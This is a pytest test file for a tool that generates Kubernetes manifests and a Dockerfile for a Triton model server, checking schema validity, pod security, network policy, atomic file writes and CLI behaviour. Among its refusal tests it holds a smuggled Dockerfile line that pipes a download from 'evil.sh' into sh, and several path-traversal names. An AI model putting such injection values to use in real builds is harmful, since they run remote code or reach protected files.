"""Production deployment files: Kubernetes schema, security properties, configs flowing into
names/ports/GPUs, refusal of unsafe names, atomic 0644 writes, the committed deploy/ folder, the
CLI, and the Dockerfile's structure (it cannot be built here: no Docker engine; its ENTRYPOINT and
HEALTHCHECK are executed against the real server in test_manifests_server.py)."""

from __future__ import annotations

import json
import os
import shlex
import stat
from pathlib import Path

import pytest
import yaml
from kubernetes_validate.utils import latest_version

from algorithm.errors import ConfigError
from algorithm.serving.config import ExportConfig, TritonConfig
from algorithm.serving.deploy.manifests import ManifestConfig, render_manifests, write_manifests

REPO_ROOT = Path(__file__).resolve().parents[3]
# An older Kubernetes release many managed clusters still run, and the newest schema the
# installed kubernetes-validate bundles: a manifest must be valid for both.
K8S_VERSIONS = ("1.30.0", latest_version())
ADMIN_APIS = {"model-repository", "model-config", "shared-memory", "statistics", "trace", "logging"}
TLS_CONFIG = ManifestConfig(
    grpc_tls_secret="ugt-grpc-tls",
    grpc_tls_mutual=True,
    ingress_tls_secret="ugt-web-tls",
    ingress_host="recs.example.com",
    client_namespaces=("shop",),
)


def docs(files: dict[str, str]) -> dict[str, dict]:
    return {rel: yaml.safe_load(text) for rel, text in files.items() if rel.startswith("k8s/")}


def by_kind(files: dict[str, str], kind: str, name_suffix: str = "") -> dict:
    found = [
        d
        for d in docs(files).values()
        if d["kind"] == kind and d["metadata"]["name"].endswith(name_suffix)
    ]
    assert len(found) == 1, f"expected one {kind}, found {len(found)}"
    return found[0]


def container(files) -> dict:
    return by_kind(files, "Deployment")["spec"]["template"]["spec"]["containers"][0]


def dockerfile(files) -> list[tuple[str, str]]:
    """(INSTRUCTION, rest) for every non-comment line (the generator writes no continuations)."""
    out = []
    for line in files["docker/Dockerfile"].splitlines():
        if line.strip() and not line.startswith("#"):
            word, _, rest = line.partition(" ")
            out.append((word, rest))
    return out


def instruction(files, word: str) -> list[str]:
    return [rest for w, rest in dockerfile(files) if w == word]


@pytest.fixture(scope="module")
def default_files():
    return render_manifests()


# ------------------------------------------------------------------------------------ schema
@pytest.mark.parametrize("version", K8S_VERSIONS)
@pytest.mark.parametrize(
    "configs",
    [
        {},
        {
            "triton": TritonConfig(platform="onnxruntime_onnx", instance_kind="KIND_CPU", gpus=()),
            "manifest": ManifestConfig(
                autoscale=False, cpu_limit=None, service_type="LoadBalancer"
            ),
        },
        {
            "triton": TritonConfig(gpus=(0, 1)),
            "manifest": ManifestConfig(
                model_pvc="",
                image="registry.example.com:5000/team/ugt-triton:1.2.0",
                storage_class="fast-rwx",
            ),
        },
        {"manifest": TLS_CONFIG},
    ],
    ids=["defaults", "cpu-fixed-replicas", "baked-image-2gpu", "tls-ingress"],
)
def test_every_manifest_validates_against_the_kubernetes_schema(configs, version):
    import kubernetes_validate

    files = render_manifests(
        ExportConfig(),
        configs.get("triton", TritonConfig()),
        configs.get("manifest", ManifestConfig()),
    )
    kinds = set()
    for rel, doc in docs(files).items():
        if doc["kind"] == "Kustomization":  # a kustomize file, not an API object: no schema
            continue
        try:
            kubernetes_validate.validate(doc, version, strict=True)
        except kubernetes_validate.ValidationError as e:
            pytest.fail(
                f"{rel} is not a valid {doc['kind']} for Kubernetes {version}: {'.'.join(map(str, e.path))}: {e.message}"
            )
        kinds.add(doc["kind"])
    assert {"Namespace", "Deployment", "Service", "PodDisruptionBudget", "NetworkPolicy"} <= kinds


def test_strict_schema_catches_a_misspelt_field(default_files):
    """The validation above has teeth: an unknown field is an error in strict mode."""
    import kubernetes_validate

    deployment = by_kind(default_files, "Deployment")
    deployment["spec"]["template"]["spec"]["containers"][0]["readinessProbe"]["httpGett"] = {
        "path": "/x"
    }
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(deployment, K8S_VERSIONS[0], strict=True)


def test_kustomization_lists_exactly_the_generated_resources(default_files):
    kust = yaml.safe_load(default_files["k8s/kustomization.yaml"])
    generated = sorted(
        rel.removeprefix("k8s/")
        for rel in default_files
        if rel.startswith("k8s/") and rel != "k8s/kustomization.yaml"
    )
    assert sorted(kust["resources"]) == generated
    assert kust["namespace"] == "ugt-serving"
    assert all(
        d["metadata"].get("namespace", "ugt-serving") == "ugt-serving"
        for d in docs(default_files).values()
        if "metadata" in d
    )


# ---------------------------------------------------------------------------------- security
def restricted_pod_security_violations(pod: dict) -> list[str]:
    """The checks of the Kubernetes "restricted" Pod Security Standard (the namespace enforces it)."""
    spec, bad = pod["spec"], []
    allowed_volumes = {
        "configMap",
        "csi",
        "downwardAPI",
        "emptyDir",
        "ephemeral",
        "persistentVolumeClaim",
        "projected",
        "secret",
    }
    for v in spec.get("volumes", []):
        kinds = set(v) - {"name"}
        if not kinds <= allowed_volumes:
            bad.append(f"volume {v['name']} uses {kinds}")
    for key in ("hostNetwork", "hostPID", "hostIPC"):
        if spec.get(key):
            bad.append(key)
    pod_sc = spec.get("securityContext", {})
    for c in spec["containers"]:
        sc = c.get("securityContext", {})
        if sc.get("privileged"):
            bad.append("privileged")
        if sc.get("allowPrivilegeEscalation") is not False:
            bad.append("allowPrivilegeEscalation not false")
        if sc.get("capabilities", {}).get("drop") != ["ALL"] or set(
            sc.get("capabilities", {}).get("add", [])
        ) - {"NET_BIND_SERVICE"}:
            bad.append("capabilities not drop ALL")
        if not (sc.get("runAsNonRoot", pod_sc.get("runAsNonRoot"))):
            bad.append("runAsNonRoot not set")
        if sc.get("runAsUser", pod_sc.get("runAsUser")) == 0:
            bad.append("runAsUser 0")
        if sc.get("seccompProfile", pod_sc.get("seccompProfile", {})).get("type") not in (
            "RuntimeDefault",
            "Localhost",
        ):
            bad.append("seccompProfile")
        if any("hostPort" in p for p in c.get("ports", [])):
            bad.append("hostPort")
    return bad


def test_pod_is_non_root_read_only_and_meets_the_restricted_standard(default_files):
    pod = by_kind(default_files, "Deployment")["spec"]["template"]
    assert restricted_pod_security_violations(pod) == []
    c = pod["spec"]["containers"][0]
    sc = c["securityContext"]
    assert sc["runAsNonRoot"] is True and sc["runAsUser"] == 1000 and sc["runAsUser"] != 0
    assert sc["readOnlyRootFilesystem"] is True
    assert sc["allowPrivilegeEscalation"] is False
    assert sc["capabilities"] == {"drop": ["ALL"]}
    assert pod["spec"]["automountServiceAccountToken"] is False
    ns = by_kind(default_files, "Namespace")
    assert ns["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"


def test_a_privileged_pod_would_be_caught_by_the_checker(default_files):
    pod = by_kind(default_files, "Deployment")["spec"]["template"]
    sc = pod["spec"]["containers"][0]["securityContext"]
    sc.update(privileged=True, allowPrivilegeEscalation=True, runAsUser=0)
    pod["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
    assert len(restricted_pod_security_violations(pod)) == 4


def test_probes_gpu_shared_memory_and_writable_tmp(default_files):
    c = container(default_files)
    assert c["readinessProbe"]["httpGet"] == {"path": "/v2/health/ready", "port": "http"}
    assert c["livenessProbe"]["httpGet"] == {"path": "/v2/health/live", "port": "http"}
    assert c["startupProbe"]["httpGet"]["path"] == "/v2/health/ready"
    startup = c["startupProbe"]["periodSeconds"] * c["startupProbe"]["failureThreshold"]
    assert startup >= ManifestConfig().startup_timeout_s  # engine loading is not killed by liveness
    assert (
        c["resources"]["limits"]["nvidia.com/gpu"]
        == 1
        == c["resources"]["requests"]["nvidia.com/gpu"]
    )
    volumes = {
        v["name"]: v
        for v in by_kind(default_files, "Deployment")["spec"]["template"]["spec"]["volumes"]
    }
    mounts = {m["mountPath"]: m for m in c["volumeMounts"]}
    assert volumes[mounts["/dev/shm"]["name"]]["emptyDir"] == {
        "medium": "Memory",
        "sizeLimit": "2Gi",
    }
    assert "medium" not in volumes[mounts["/tmp"]["name"]]["emptyDir"]
    repo = mounts["/models"]
    assert repo["readOnly"] is True
    assert volumes[repo["name"]]["persistentVolumeClaim"] == {
        "claimName": "ugt-model-repository",
        "readOnly": True,
    }
    annotations = by_kind(default_files, "Deployment")["spec"]["template"]["metadata"][
        "annotations"
    ]
    assert (
        annotations["prometheus.io/scrape"] == "true"
        and annotations["prometheus.io/port"] == "8002"
    )


def test_admin_endpoints_are_restricted_and_model_control_is_off(default_files):
    c = container(default_files)
    args = c["args"]
    assert "--model-control-mode=none" in args and "--strict-readiness=true" in args
    for flag in ("--http-restricted-api=", "--grpc-restricted-protocol="):
        (value,) = [a.removeprefix(flag) for a in args if a.startswith(flag)]
        apis, _, key = value.partition(":")
        assert set(apis.split(",")) == ADMIN_APIS  # health, metadata and inference stay open
        assert key == "admin-key=$(TRITON_ADMIN_KEY)"
    (env,) = [e for e in c["env"] if e["name"] == "TRITON_ADMIN_KEY"]
    assert env["valueFrom"]["secretKeyRef"] == {
        "name": "ugt-triton-admin",
        "key": "admin-key",
        "optional": False,
    }
    assert (
        "TRITON_ADMIN_KEY"
        not in default_files["docker/Dockerfile"].split("ENV ", 1)[1].split("\n", 1)[0]
    )


def _namespaces(rule: dict) -> list[str]:
    return [
        f["namespaceSelector"]["matchLabels"]["kubernetes.io/metadata.name"] for f in rule["from"]
    ]


def test_network_policy_keeps_metrics_off_the_client_path(default_files):
    policy = by_kind(default_files, "NetworkPolicy")
    client_rule, metrics_rule = policy["spec"]["ingress"]
    assert {p["port"] for p in client_rule["ports"]} == {"http", "grpc"}
    # clients come through the ingress controller, whose body limit they cannot bypass
    assert _namespaces(client_rule) == ["ingress-nginx"]
    assert [p["port"] for p in metrics_rule["ports"]] == ["metrics"]
    assert metrics_rule["from"] == [
        {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}
    ]
    assert policy["spec"]["egress"] == []
    client = next(
        d
        for d in docs(default_files).values()
        if d["kind"] == "Service" and d["metadata"]["name"] == "ugt-recommend"
    )
    assert {p["name"] for p in client["spec"]["ports"]} == {"http", "grpc"}


def test_hpa_scales_on_queue_time_served_by_the_prometheus_adapter(default_files):
    hpa = by_kind(default_files, "HorizontalPodAutoscaler")
    assert hpa["apiVersion"] == "autoscaling/v2"
    (metric,) = hpa["spec"]["metrics"]
    assert metric["type"] == "Pods" and metric["pods"]["metric"]["name"] == "avg_time_queue_us"
    assert metric["pods"]["target"] == {"type": "AverageValue", "averageValue": "5000"}
    assert (hpa["spec"]["minReplicas"], hpa["spec"]["maxReplicas"]) == (2, 8)
    assert "replicas" not in by_kind(default_files, "Deployment")["spec"]  # the HPA owns the count
    (rule,) = yaml.safe_load(default_files["prometheus-adapter/values.yaml"])["rules"]["custom"]
    assert rule["name"]["as"] == "avg_time_queue_us"
    assert (
        "nv_inference_queue_duration_us" in rule["metricsQuery"]
        and "nv_inference_request_success" in rule["metricsQuery"]
    )
    assert by_kind(default_files, "PodDisruptionBudget")["spec"]["maxUnavailable"] == 1


# ------------------------------------------------------------------------- configs flow through
def test_model_name_ports_gpus_and_replicas_follow_the_configs():
    files = render_manifests(
        ExportConfig(model_name="news_Rank-v2"),
        TritonConfig(gpus=(0, 2)),
        ManifestConfig(
            http_port=9000,
            grpc_port=9001,
            metrics_port=9002,
            replicas=3,
            max_replicas=5,
            namespace="recsys",
            image="nvcr.io/nvidia/tritonserver:24.12-py3",
        ),
    )
    dep = by_kind(files, "Deployment")
    c = container(files)
    assert dep["metadata"]["name"] == "news-rank-v2" and dep["metadata"]["namespace"] == "recsys"
    assert dep["metadata"]["annotations"]["ugt-serving/model"] == "news_Rank-v2"
    assert c["image"] == "nvcr.io/nvidia/tritonserver:24.12-py3"
    assert {p["name"]: p["containerPort"] for p in c["ports"]} == {
        "http": 9000,
        "grpc": 9001,
        "metrics": 9002,
    }
    assert {"--http-port=9000", "--grpc-port=9001", "--metrics-port=9002"} <= set(c["args"])
    assert (
        c["resources"]["limits"]["nvidia.com/gpu"] == 3
    )  # instances on device 2 need devices 0..2
    svc = by_kind(files, "Service", "v2")
    assert {p["name"]: p["port"] for p in svc["spec"]["ports"]} == {"http": 9000, "grpc": 9001}
    assert by_kind(files, "Service", "-metrics")["spec"]["ports"][0]["port"] == 9002
    assert by_kind(files, "HorizontalPodAutoscaler")["spec"]["minReplicas"] == 3
    assert 'model="news_Rank-v2"' in files["prometheus-adapter/values.yaml"]
    assert instruction(files, "EXPOSE") == ["9000 9001 9002"]
    assert "127.0.0.1:9000/v2/health/ready" in instruction(files, "HEALTHCHECK")[0]
    assert 'ugt-serving.model="news_Rank-v2"' in instruction(files, "LABEL")[0]
    assert yaml.safe_load(files["k8s/kustomization.yaml"])["namespace"] == "recsys"


def test_cpu_only_fixed_replicas_and_python_platform():
    files = render_manifests(
        ExportConfig(),
        TritonConfig(platform="python", instance_kind="KIND_CPU", gpus=()),
        ManifestConfig(autoscale=False, replicas=4),
    )
    c = container(files)
    assert (
        "nvidia.com/gpu" not in c["resources"]["limits"]
        and "--allow-gpu-metrics=false" in c["args"]
    )
    assert "tolerations" not in by_kind(files, "Deployment")["spec"]["template"]["spec"]
    assert by_kind(files, "Deployment")["spec"]["replicas"] == 4
    assert "k8s/hpa.yaml" not in files and "prometheus-adapter/values.yaml" not in files
    assert "hpa.yaml" not in yaml.safe_load(files["k8s/kustomization.yaml"])["resources"]
    # the python backend's model.py runs the project's Runner: the image installs the project
    assert any("pip install" in r for r in instruction(files, "RUN"))
    assert "!algorithm" in files["docker/Dockerfile.dockerignore"].splitlines()


def test_baked_image_has_no_repository_volume_and_needs_an_image():
    files = render_manifests(
        manifest_config=ManifestConfig(model_pvc="", image="registry.example.com/ugt-triton:1")
    )
    spec = by_kind(files, "Deployment")["spec"]["template"]["spec"]
    assert [v["name"] for v in spec["volumes"]] == ["dshm", "tmp"]
    assert spec["containers"][0]["image"] == "registry.example.com/ugt-triton:1"
    assert "k8s/pvc.yaml" not in files
    with pytest.raises(ConfigError) as e:
        ManifestConfig(model_pvc="")
    assert e.value.field == "image"


def test_too_few_gpus_for_the_model_config_is_refused():
    with pytest.raises(ConfigError) as e:
        render_manifests(
            triton_config=TritonConfig(gpus=(0, 3)), manifest_config=ManifestConfig(gpus_per_pod=2)
        )
    assert e.value.field == "gpus_per_pod" and "[0, 3]" in str(e.value)


# ------------------------------------------------------------------------------ unsafe values
@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"name": "../etc"}, "name"),
        ({"name": "my app"}, "name"),
        ({"name": "UGT"}, "name"),
        ({"namespace": "prod ns"}, "namespace"),
        ({"namespace": "../kube-system"}, "namespace"),
        ({"model_pvc": "../pvc"}, "model_pvc"),
        ({"admin_secret": "a/b"}, "admin_secret"),
        ({"repository_dir": "../secrets"}, "repository_dir"),
        ({"repository_dir": "/etc"}, "repository_dir"),
        ({"repository_dir": "model repo"}, "repository_dir"),
        ({"model_mount_path": "models"}, "model_mount_path"),
        ({"model_mount_path": "/models/../etc"}, "model_mount_path"),
        ({"model_mount_path": "/tmp/models"}, "model_mount_path"),
        ({"image": "nginx\nRUN curl evil.sh | sh"}, "image"),
        ({"triton_image": "nvcr.io/nvidia/tritonserver:24.10 py3"}, "triton_image"),
        ({"admin_header": "Admin Key"}, "admin_header"),
        ({"http_port": 8001}, "grpc_port"),  # collides with the default grpc_port
        ({"metrics_port": 70000}, "metrics_port"),
        ({"run_as_user": 0}, "run_as_user"),
        ({"memory_request": "32Gi", "memory_limit": "16Gi"}, "memory_request"),
        ({"shm_size": "16Gi", "memory_limit": "16Gi"}, "shm_size"),
        ({"base_memory": "lots"}, "base_memory"),
        ({"grpc_tls_mutual": True}, "grpc_tls_mutual"),  # mutual TLS needs the TLS Secret
        ({"grpc_tls_secret": "tls/../x"}, "grpc_tls_secret"),
        ({"ingress_host": "a host"}, "ingress_host"),
        ({"client_namespaces": ("ok", "Not OK")}, "client_namespaces"),
        ({"cpu_limit": "2"}, "cpu_limit"),
        ({"cpu_request": "four"}, "cpu_request"),
        ({"restricted_apis": ("statistics",)}, "restricted_apis"),
        ({"restricted_apis": ("health", "model-repository")}, "restricted_apis"),
        ({"max_replicas": 1}, "max_replicas"),
        ({"prometheus_url": "http://x y"}, "prometheus_url"),
    ],
)
def test_unsafe_or_invalid_values_are_refused(changes, field):
    with pytest.raises(ConfigError) as e:
        ManifestConfig(**changes)
    assert e.value.field == field
    assert e.value.hint  # the CLI prints it


@pytest.mark.parametrize("model_name", ["../../etc/passwd", "ugt recommend", "a/b", ""])
def test_unsafe_model_names_are_refused_before_anything_is_written(model_name, tmp_path):
    export = ExportConfig()
    export.model_name = model_name  # set after construction: write_manifests validates again
    with pytest.raises(ConfigError) as e:
        write_manifests(tmp_path / "deploy", export, TritonConfig(), ManifestConfig())
    assert e.value.field == "model_name"
    assert not (tmp_path / "deploy").exists()


def test_model_name_without_a_kubernetes_form_asks_for_a_name():
    with pytest.raises(ConfigError) as e:
        render_manifests(ExportConfig(model_name="___"))
    assert e.value.field == "name" and "ManifestConfig.name" in e.value.hint
    assert (
        by_kind(
            render_manifests(
                ExportConfig(model_name="___"), manifest_config=ManifestConfig(name="ugt")
            ),
            "Deployment",
        )["metadata"]["name"]
        == "ugt"
    )


# ----------------------------------------------------------------------------------- writing
def test_files_are_written_0644_whatever_the_umask(tmp_path):
    old = os.umask(0o077)
    try:
        paths = write_manifests(tmp_path / "deploy")
    finally:
        os.umask(old)
    assert len(paths) == len(render_manifests())
    for p in paths:
        assert stat.S_IMODE(p.stat().st_mode) == 0o644, p
    assert not [p for p in (tmp_path / "deploy").rglob(".*")]  # no temp files left behind


def test_a_failed_write_leaves_the_previous_file_whole(tmp_path, monkeypatch):
    import algorithm.fsutil as fsutil

    root = tmp_path / "deploy"
    write_manifests(root)
    before = (root / "k8s/deployment.yaml").read_text()

    def crash(src, dst):  # the process dies between writing the temp file and renaming it
        raise OSError("disk full")

    monkeypatch.setattr(fsutil.os, "replace", crash)
    with pytest.raises(OSError):
        write_manifests(root, ExportConfig(model_name="other"))
    assert (root / "k8s/deployment.yaml").read_text() == before
    assert not [p for p in root.rglob(".*")]


def test_a_symlink_in_the_output_is_replaced_not_followed(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me")
    root = tmp_path / "deploy"
    (root / "k8s").mkdir(parents=True)
    (root / "k8s/deployment.yaml").symlink_to(outside)
    write_manifests(root)
    assert outside.read_text() == "keep me"
    assert not (root / "k8s/deployment.yaml").is_symlink()
    assert "kind: Deployment" in (root / "k8s/deployment.yaml").read_text()


def test_files_a_new_config_does_not_generate_are_removed(tmp_path):
    root = tmp_path / "deploy"
    write_manifests(root)
    (root / "k8s/notes.md").write_text("mine")
    write_manifests(
        root,
        manifest_config=ManifestConfig(autoscale=False, model_pvc="", image="r.example.com/u:1"),
    )
    assert not (root / "k8s/hpa.yaml").exists() and not (root / "k8s/pvc.yaml").exists()
    assert (root / "k8s/notes.md").read_text() == "mine"  # only files this module writes go


def test_committed_deploy_folder_matches_the_default_configs(default_files):
    """deploy/ is `ugt-serving manifests --output deploy`; regenerate it when the defaults change."""
    deploy = REPO_ROOT / "deploy"
    committed = {
        str(p.relative_to(deploy)): p.read_text() for p in deploy.rglob("*") if p.is_file()
    }
    assert sorted(committed) == sorted(default_files)
    for rel, text in default_files.items():
        assert committed[rel] == text, (
            f"deploy/{rel} drifted: run `ugt-serving manifests --output deploy`"
        )


# ---------------------------------------------------------------------------------------- CLI
def test_cli_writes_manifests_from_flags(tmp_path):
    from typer.testing import CliRunner

    from algorithm.serving.cli import app

    out = tmp_path / "deploy"
    result = CliRunner().invoke(
        app,
        [
            "--json",
            "manifests",
            "--output",
            str(out),
            "--model-name",
            "ctr_model",
            "--gpus",
            "2",
            "--image",
            "nvcr.io/nvidia/tritonserver:24.12-py3",
            "--replicas",
            "3",
        ],
    )
    assert result.exit_code == 0, result.output
    files = {str(p.relative_to(out)): p.read_text() for p in out.rglob("*") if p.is_file()}
    c = container(files)
    assert by_kind(files, "Deployment")["metadata"]["name"] == "ctr-model"
    assert c["resources"]["limits"]["nvidia.com/gpu"] == 2 and c["image"].endswith(":24.12-py3")
    assert by_kind(files, "HorizontalPodAutoscaler")["spec"]["minReplicas"] == 3


def test_cli_service_type_load_balancer(tmp_path):
    """Guide 8.5's Service of type LoadBalancer from the command line; the metrics Service stays
    inside the cluster."""
    from typer.testing import CliRunner

    from algorithm.serving.cli import app

    out = tmp_path / "deploy"
    args = ["manifests", "--output", str(out), "--service-type", "LoadBalancer"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    files = {str(p.relative_to(out)): p.read_text() for p in out.rglob("*") if p.is_file()}
    services = [d for d in docs(files).values() if d["kind"] == "Service"]
    types = {d["metadata"]["name"]: d["spec"]["type"] for d in services}
    assert sorted(types.values()) == ["ClusterIP", "LoadBalancer"], types
    lb = next(d for d in services if d["spec"]["type"] == "LoadBalancer")
    assert {p["port"] for p in lb["spec"]["ports"]} >= {8001}
    bad = CliRunner().invoke(app, [*args[:3], "--service-type", "Ingress"])
    assert bad.exit_code == 1 and "service_type='Ingress'" in bad.output
    assert "one of ClusterIP, NodePort, LoadBalancer" in " ".join(bad.output.split())


def test_cli_reads_a_json_config_and_refuses_bad_names(tmp_path):
    from typer.testing import CliRunner

    from algorithm.serving.cli import app

    cfg = tmp_path / "deploy.json"
    cfg.write_text(
        json.dumps(
            {
                "triton": {"platform": "onnxruntime_onnx", "instance_kind": "KIND_CPU", "gpus": []},
                "manifest": {"namespace": "recsys", "autoscale": False},
            }
        )
    )
    out = tmp_path / "out"
    ok = CliRunner().invoke(app, ["manifests", "--output", str(out), "--config", str(cfg)])
    assert ok.exit_code == 0, ok.output
    assert (
        yaml.safe_load((out / "k8s/deployment.yaml").read_text())["metadata"]["namespace"]
        == "recsys"
    )
    assert not (out / "k8s/hpa.yaml").exists()
    bad = CliRunner().invoke(
        app, ["manifests", "--output", str(tmp_path / "x"), "--model-name", "../evil"]
    )
    assert bad.exit_code == 1
    assert "model_name='../evil' is not allowed" in bad.output and "hint:" in bad.output
    assert not (tmp_path / "x").exists()
    cpu = CliRunner().invoke(app, ["manifests", "--output", str(tmp_path / "y"), "--gpus", "0"])
    assert cpu.exit_code == 1 and "--platform onnxruntime_onnx" in cpu.output


# ------------------------------------------------------------------ Dockerfile (structure only)
def test_dockerfile_structure(default_files):
    words = [w for w, _ in dockerfile(default_files)]
    assert words[:2] == ["ARG", "FROM"] and words[-1] == "ENTRYPOINT"
    assert instruction(default_files, "ARG") == [
        "TRITON_IMAGE=nvcr.io/nvidia/tritonserver:24.10-py3"
    ]
    assert instruction(default_files, "FROM") == ["${TRITON_IMAGE}"]
    assert "ADD" not in words  # COPY only: no remote URLs or auto-extraction
    assert instruction(default_files, "COPY") == ["model_repository /models"]
    assert instruction(default_files, "USER") == ["1000:1000"]
    assert words.index("USER") > max(i for i, w in enumerate(words) if w in ("COPY", "RUN"))
    assert instruction(default_files, "EXPOSE") == ["8000 8001 8002"]
    hc = instruction(default_files, "HEALTHCHECK")[0]
    assert hc.split(" CMD ")[0].startswith("--interval=")
    assert json.loads(hc.split(" CMD ", 1)[1])[0] == "python3" and "/v2/health/ready" in hc
    entry = json.loads(instruction(default_files, "ENTRYPOINT")[0])
    assert entry[:2] == ["/bin/sh", "-c"] and entry[3] == "tritonserver"
    # the same server flags as the Deployment, the key referenced from the environment
    k8s_args = container(default_files)["args"]
    script_args = shlex.split(entry[2])[3:]  # after: exec tritonserver "$@"
    assert (
        entry[4:]
        + [
            a.replace("${TRITON_ADMIN_KEY:?set TRITON_ADMIN_KEY}", "$(TRITON_ADMIN_KEY)")
            for a in script_args
        ]
        == k8s_args
    )


# ------------------------------------------------------------ request size, memory and TLS
def test_ingress_caps_the_body_at_the_largest_valid_request(default_files):
    from algorithm.serving.security import max_request_bytes

    ing = by_kind(default_files, "Ingress")
    limit = 64 * 1024 * 4 * 8 + (64 << 10)  # max_batch x max_seq x 4 int64 inputs + framing
    assert limit == max_request_bytes(64, 1024)
    annotations = ing["metadata"]["annotations"]
    assert annotations["nginx.ingress.kubernetes.io/proxy-body-size"] == str(limit)
    assert annotations["nginx.ingress.kubernetes.io/backend-protocol"] == "HTTP"
    assert ing["spec"]["ingressClassName"] == "nginx" and "tls" not in ing["spec"]
    (rule,) = ing["spec"]["rules"]
    assert "host" not in rule
    paths = {(p["path"], p["pathType"]) for p in rule["http"]["paths"]}
    # inference, health and metadata only: /v2/repository, /v2/logging, /v2/trace and the
    # shared-memory APIs are not routed at all
    assert paths == {("/v2", "Exact"), ("/v2/health", "Prefix"), ("/v2/models", "Prefix")}
    assert {p["backend"]["service"]["port"]["name"] for p in rule["http"]["paths"]} == {"http"}
    assert "k8s/ingress-grpc.yaml" not in default_files  # gRPC through nginx needs TLS there
    # the limit follows the export config
    small = render_manifests(ExportConfig(max_batch_size=8, max_seq_length=256))
    assert by_kind(small, "Ingress")["metadata"]["annotations"][
        "nginx.ingress.kubernetes.io/proxy-body-size"
    ] == str(8 * 256 * 32 + (64 << 10))


def test_memory_limit_is_derived_from_the_largest_request_and_what_can_be_in_flight():
    from algorithm.serving.deploy.plan import REQUEST_MEMORY_FACTOR, resolve_plan
    from algorithm.serving.security import max_request_bytes

    ec, tc = ExportConfig(), TritonConfig()  # 2 instances on GPU 0, max_batch 64, no queue limit
    plan = resolve_plan(ec, tc, ManifestConfig())
    assert plan.in_flight == 2 * 64 * 2  # every instance's largest batch, and as many queued
    request = max_request_bytes(64, 1024)
    expected = 12 * 2**30 + 2 * 2**30 + plan.in_flight * request * REQUEST_MEMORY_FACTOR
    assert plan.memory_limit == f"{-(-expected // 2**20)}Mi"
    files = render_manifests(ec, tc, ManifestConfig())
    resources = container(files)["resources"]
    assert resources["limits"]["memory"] == resources["requests"]["memory"] == plan.memory_limit
    annotation = by_kind(files, "Deployment")["spec"]["template"]["metadata"]["annotations"]
    assert str(request) in annotation["ugt-serving/memory-limit"]
    # a queue limit bounds what waits; a given limit is kept as is
    queued = resolve_plan(ec, tc.replace(max_queue_size=16), ManifestConfig())
    assert queued.in_flight == 2 * 64 + 16
    given = resolve_plan(ec, tc, ManifestConfig(memory_limit="20Gi", memory_request="8Gi"))
    assert (given.memory_limit, given.memory_request) == ("20Gi", "8Gi")
    with pytest.raises(ConfigError) as e:
        resolve_plan(ec, tc, ManifestConfig(memory_request="64Gi"))
    assert e.value.field == "memory_request"


def test_grpc_tls_mounts_the_secret_and_the_ingresses_terminate_https():
    files = render_manifests(manifest_config=TLS_CONFIG)
    c = container(files)
    assert {
        "--grpc-use-ssl=true",
        "--grpc-server-cert=/etc/triton/tls/tls.crt",
        "--grpc-server-key=/etc/triton/tls/tls.key",
        "--grpc-use-ssl-mutual=true",
        "--grpc-root-cert=/etc/triton/tls/ca.crt",
    } <= set(c["args"])
    assert c["args"][-2].startswith("--http-restricted-api=")  # the keyed flags stay last
    (mount,) = [m for m in c["volumeMounts"] if m["mountPath"] == "/etc/triton/tls"]
    assert mount["readOnly"] is True
    volumes = by_kind(files, "Deployment")["spec"]["template"]["spec"]["volumes"]
    (vol,) = [v for v in volumes if v["name"] == mount["name"]]
    assert vol["secret"]["secretName"] == "ugt-grpc-tls"
    http = by_kind(files, "Ingress", "ugt-recommend")
    assert http["spec"]["tls"] == [{"hosts": ["recs.example.com"], "secretName": "ugt-web-tls"}]
    grpc = by_kind(files, "Ingress", "-grpc")
    annotations = grpc["metadata"]["annotations"]
    assert annotations["nginx.ingress.kubernetes.io/backend-protocol"] == "GRPCS"
    assert annotations["nginx.ingress.kubernetes.io/proxy-body-size"] == str(64 * 1024 * 32 + 65536)
    paths = {p["path"] for p in grpc["spec"]["rules"][0]["http"]["paths"]}
    assert "/inference.GRPCInferenceService/ModelInfer" in paths
    assert not {p for p in paths if "Repository" in p or "Statistics" in p or "Config" in p}
    assert all(p["pathType"] == "Exact" for p in grpc["spec"]["rules"][0]["http"]["paths"])
    policy = by_kind(files, "NetworkPolicy")
    assert _namespaces(policy["spec"]["ingress"][0]) == ["ingress-nginx", "shop"]
    assert "ugt-grpc-tls" in files["k8s/kustomization.yaml"]
    assert "/etc/triton/tls" in files["docker/Dockerfile"]
    # without the ingress, clients may come from anywhere (the old behaviour)
    open_policy = by_kind(
        render_manifests(manifest_config=ManifestConfig(ingress=False)), "NetworkPolicy"
    )
    assert "from" not in open_policy["spec"]["ingress"][0]
